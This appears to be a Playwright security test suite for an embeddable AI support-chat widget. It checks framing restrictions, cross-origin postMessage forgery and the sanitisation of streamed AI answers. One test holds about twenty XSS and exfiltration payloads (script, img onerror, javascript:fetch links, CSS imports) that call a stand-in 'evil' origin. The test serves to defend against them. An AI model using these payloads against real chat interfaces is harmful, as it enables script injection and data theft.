import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { whyNoBrowser } from './visitor.ts';
import {
  cited,
  openSite,
  openWidgetStage,
  type ComeOptions,
  type CustomerSite,
  type Guest,
  type WidgetStage,
} from './widget-stage.ts';

const missing = whyNoBrowser();
const patient = { timeout: 15_000 };
/** Long enough for a message that is heard to do something. */
const settleMs = 500;

const forged = (message: object) => ({ for: 'indesk-widget', message });
const stream = (...texts: string[]): string =>
  [
    { type: 'started', requestId: '1', demo: false },
    ...texts.map((text) => ({ type: 'text-delta', text })),
    {
      type: 'answer',
      answer: {
        turn: 1,
        action: 'answer',
        text: texts.join(''),
        sources: [
          {
            number: 1,
            title: texts.join('').slice(0, 200),
            url: 'javascript:alert(1)',
            quote: texts.join(''),
          },
        ],
        language: 'en',
        reason: null,
        offersPerson: true,
        handOff: null,
        turnsLeft: 9,
        history: 'h',
      },
    },
    { type: 'done' },
  ]
    .map((event) => `data: ${JSON.stringify(event)}\n\n`)
    .join('');

describe.skipIf(missing !== undefined)('the guards of the widget', () => {
  let stage: WidgetStage;
  let stranger: CustomerSite;
  beforeAll(async () => {
    [stage, stranger] = await Promise.all([openWidgetStage(), openSite('stranger.localhost')]);
  });
  afterEach(() => stage.reset());
  afterAll(async () => {
    await Promise.all([stage?.close(), stranger?.close()]);
  });
  const come = async (options?: ComeOptions): Promise<Guest> => {
    const guest = await stage.come(await stage.publish(), options);
    onTestFinished(() => guest.context.close());
    return guest;
  };
  const talk = async (guest: Guest): Promise<void> => {
    await guest.open();
    stage.house.provider.answerWith(cited('Parcels arrive within three days [1].'));
    await guest.say('When does my parcel arrive?');
    await guest.answer(1);
  };
  it('S94: a page that is not on the list cannot frame the conversation, under whichever name', async () => {
    const guest = await come();
    await talk(guest);
    const frameUrl = (await guest.panel.locator('iframe').getAttribute('src')) ?? '';
    const renamed = frameUrl.replace(/page=.*/, `page=${encodeURIComponent(stranger.origin)}`);
    stranger.html = `<!doctype html><iframe src="${frameUrl}"></iframe><iframe src="${renamed}"></iframe>`;
    await guest.page.goto(stranger.origin);
    await guest.page.waitForTimeout(settleMs);
    for (const frame of guest.page.frames().slice(1))
      expect(frame.url()).toBe('chrome-error://chromewebdata/');
    expect(guest.errors.some((text) => text.includes('frame-ancestors'))).toBe(true);
  });

  it('S94: a window of another origin is heard neither by the page nor by the frame', async () => {
    const guest = await come();
    await talk(guest);
    stranger.html = '<!doctype html><title>Stranger</title>';
    const opener = await guest.context.newPage();
    await opener.goto(stranger.origin);
    const [shop] = await Promise.all([
      opener.waitForEvent('popup'),
      opener.evaluate((url) => void Object.assign(window, { victim: open(url) }), stage.site.origin),
    ]);
    await shop.locator('[data-indesk] .launcher').click();
    const chat = shop.frameLocator('[data-indesk] iframe');
    await chat.locator('textarea').waitFor();
    const sent = await opener.evaluate(
      (messages) => {
        const { victim } = window as unknown as { victim: Window };
        for (const message of messages) {
          victim.postMessage(message, '*');
          for (let index = 0; index < victim.length; index += 1) victim[index]?.postMessage(message, '*');
        }
        return victim.length;
      },
      [
        forged({ type: 'close' }),
        forged({ type: 'keep', state: 'stolen' }),
        forged({ type: 'session', session: 'forged', history: 'forged' }),
        forged({ type: 'forget' }),
        forged({ type: 'refused', problem: 'forged', retryAfterSeconds: null }),
      ],
    );
    // A frame in a shadow root is on no list that others can read.
    expect(sent).toBe(0);
    await shop.waitForTimeout(settleMs);
    expect(await shop.locator('[data-indesk] .panel').isVisible()).toBe(true);
    expect(await shop.evaluate(() => JSON.stringify({ ...sessionStorage }))).not.toContain('stolen');
    stage.house.provider.answerWith(cited('Parcels arrive within three days [1].'));
    await chat.locator('textarea').fill('When does my parcel arrive?');
    await chat.locator('textarea').press('Enter');
    await chat.locator('.source').first().waitFor(patient);
  });

  it('S94: what the frame was navigated to is neither heard nor given a session', async () => {
    const guest = await come();
    await talk(guest);
    stranger.html = '<!doctype html><title>Stranger</title>';
    const frame = guest.page.frames().find((one) => one.url().includes('/widget/frame/'));
    await frame?.goto(stranger.origin);
    const heard = frame?.evaluate(
      ({ message, wait }) =>
        new Promise((resolve) => {
          addEventListener('message', (event) => resolve(event.data));
          setTimeout(() => resolve('nothing'), wait);
          for (const one of message) parent.postMessage(one, '*');
        }),
      {
        message: [
          forged({ type: 'ready', keeps: false }),
          forged({ type: 'begin' }),
          forged({ type: 'close' }),
        ],
        wait: settleMs,
      },
    );
    expect(await heard).toBe('nothing');
    expect(await guest.panel.isVisible()).toBe(true);
  });

  it('S112, S113: whatever an answer holds, nothing is fetched, run or made but text and links', async () => {
    const evil = stranger.origin;
    let reached = 0;
    const guest = await come();
    guest.page.on('request', (request) => {
      if (request.url().startsWith(evil)) reached += 1;
    });
    await guest.open();
    const payloads: readonly string[][] = [
      [`![a](${evil}/1.png)`],
      [`![a`, `](${evil}`, `/2.png)`],
      [`[![a](${evil}/3.png)](${evil})`],
      [`<img src="${evil}/4.png">`],
      [`<im`, `g src=${evil}/5.png onerror=alert(1)>`],
      [`<script src="${evil}/6.js"></script>`],
      [`<iframe src="${evil}/7"></iframe>`],
      [`<svg><image href="${evil}/8.png"/></svg>`],
      [`<link rel=stylesheet href="${evil}/9.css">`],
      [`<style>@import url(${evil}/10.css);</style>`],
      [`<a href="javascript:fetch('${evil}/11')">x</a>`],
      [`[x](javascript:fetch('${evil}/12'))`],
      [`[x](data:text/html,<script>fetch('${evil}/13')</script>)`],
      [`<video poster="${evil}/14.png" src="${evil}/14.mp4">`],
      [`<object data="${evil}/15">`],
      [`<base href="${evil}/">`],
      [`<meta http-equiv=refresh content="0;url=${evil}/17">`],
      [`<form action="${evil}/18"><button>x`],
      [`[ref]: ${evil}/19.png\n![a][ref]`],
      [`\`\`\`html\n<img src="${evil}/20.png">\n\`\`\``],
      [`<div style="background:url(${evil}/21.png)">`],
      [`<input autofocus onfocus="fetch('${evil}/22')">`],
    ];
    for (const [at, texts] of payloads.entries()) {
      await guest.page.route('**/turns', (route) =>
        route.fulfill({ contentType: 'text/event-stream', body: stream(...texts) }),
      );
      await guest.say(`attack ${at}`);
      await guest.answer(at + 1);
      await guest.chat.locator('.source summary').last().click();
      await guest.page.unroute('**/turns');
    }
    const made = await guest.chat.locator('.messages').evaluate((list) => ({
      names: [...new Set([...list.querySelectorAll('*')].map(({ localName }) => localName))],
      links: [...list.querySelectorAll('a')].map(({ protocol, rel }) => `${protocol} ${rel}`),
    }));
    const allowed =
      'li span div p strong em code pre ul ol a sup br details summary blockquote button svg path';
    expect(made.names.filter((name) => !allowed.split(' ').includes(name))).toEqual([]);
    expect([...new Set(made.links)]).toEqual(['http: noopener noreferrer nofollow']);
    expect(reached).toBe(0);
    // The frame's own page refuses what the code would have let through.
    const trusted = await guest.chat.locator('body').evaluate((body) => {
      try {
        body.insertAdjacentHTML('beforeend', '<b>x</b>');
        return 'was let through';
      } catch (error) {
        return (error as Error).name;
      }
    });
    expect(trusted).toBe('TypeError');
  });

  it('S118: says that the chat is not available once the AI agent has been switched off', async () => {
    const agent = await stage.publish();
    const guest = await stage.come(agent);
    onTestFinished(() => guest.context.close());
    await talk(guest);
    await stage.house.switchOff(agent);
    await guest.page.waitForTimeout(2_500);
    await guest.say('And returns?');
    await guest.chat.getByText('This chat is not available right now.').waitFor();
  });
});
